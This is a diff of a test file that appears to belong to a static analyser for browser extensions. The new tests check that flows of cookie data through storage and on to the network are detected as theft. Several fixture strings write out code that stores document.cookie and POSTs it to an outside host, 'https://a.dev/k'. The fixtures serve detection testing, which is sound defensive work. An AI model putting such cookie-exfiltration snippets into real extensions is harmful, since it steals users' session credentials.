@@ -76,6 +76,47 @@ describe('flows over storage', () => {
     );
   });
 
+  it('lead through helpers that are told the key, each call by its own', () => {
+    const helpers = [
+      'const keep = (key, value) => chrome.storage.local.set({ [key]: value });',
+      'async function keep(key, value) { const items = { [key]: value }; await chrome.storage.local.set(items) }',
+    ];
+    for (const helper of helpers) {
+      const content = `${helper} keep('crumbs', document.cookie); keep('note', 'calm');`;
+      const read = (key: string): string =>
+        `chrome.storage.local.get('${key}', (kept) => fetch('https://a.dev/k', { method: 'POST', body: kept.${key} }))`;
+      const flow = 'cookies content.js > network worker.js (theft, high)';
+      const isFound = (key: string): boolean =>
+        flowsBetween({ 'content.js': content, 'worker.js': read(key) }).includes(flow);
+      assert.deepEqual([isFound('crumbs'), isFound('note')], [true, false], helper);
+    }
+  });
+
+  it('lead from keys that are not known to a key that nothing else is written under', () => {
+    const keeps = [
+      `class Store { set(key, value) { return new Promise((r) => chrome.storage.local.set({ [key]: value }, r)) } } const s = new Store(); s.set('crumbs', document.cookie); s.set('note', 'calm');`,
+      `const keep = (key, value) => { const o = {}; o[key] = value; chrome.storage.local.set(o) }; keep('crumbs', document.cookie); keep('note', 'calm');`,
+      `for (const [k, v] of [['crumbs', document.cookie], ['note', 1]]) chrome.storage.local.set({ [k]: v });`,
+      `chrome.storage.local.set({ crumbs: '' }); chrome.storage.local.set({ [self.name]: document.cookie });`,
+    ];
+    const worker = `chrome.storage.local.get('crumbs', (kept) => fetch('https://a.dev/k', { method: 'POST', body: kept.crumbs }))`;
+    const flow = 'cookies content.js > network worker.js (theft, medium)';
+    for (const keep of keeps)
+      assert.ok(flowsBetween({ 'content.js': keep, 'worker.js': worker }).includes(flow), keep);
+    const known = `chrome.storage.local.set({ crumbs: Date.now() }); ${keeps[3]!}`;
+    assert.ok(!flowsBetween({ 'content.js': known, 'worker.js': worker }).includes(flow));
+  });
+
+  it('lead through what content scripts leave in the storage of a page', () => {
+    const keep = `localStorage.setItem('crumbs', document.cookie); localStorage.note = 'calm';`;
+    const send = (key: string): string =>
+      `fetch('https://a.dev/k', { method: 'POST', body: localStorage.getItem('${key}') });`;
+    const flow = 'cookies content.js > network content.js (theft, high)';
+    const isFound = (key: string): boolean =>
+      flowsBetween({ 'content.js': `${keep} ${send(key)}`, 'worker.js': '' }).includes(flow);
+    assert.deepEqual([isFound('crumbs'), isFound('note')], [true, false]);
+  });
+
   it('lead through the local storage of extension pages', () => {
     const files = {
       'popup.html': '<script src="popup.js"></script>',
